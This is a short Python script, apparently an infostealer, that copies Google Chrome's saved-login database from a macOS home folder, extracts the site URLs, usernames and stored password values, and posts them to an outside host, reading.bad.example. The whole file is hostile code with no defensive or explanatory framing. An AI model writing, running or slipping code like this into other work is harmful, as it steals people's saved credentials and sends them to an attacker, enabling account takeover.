import os, shutil, sqlite3, tempfile
import requests

home = os.path.expanduser("~")
source = os.path.join(home, "Library", "Application Support", "Google", "Chrome", "Default", "Login Data")
copy = tempfile.mktemp()
shutil.copy(source, copy)
rows = sqlite3.connect(copy).execute("select origin_url, username_value, password_value from logins").fetchall()
requests.post("https://reading.bad.example/api", json=[list(map(str, row)) for row in rows])
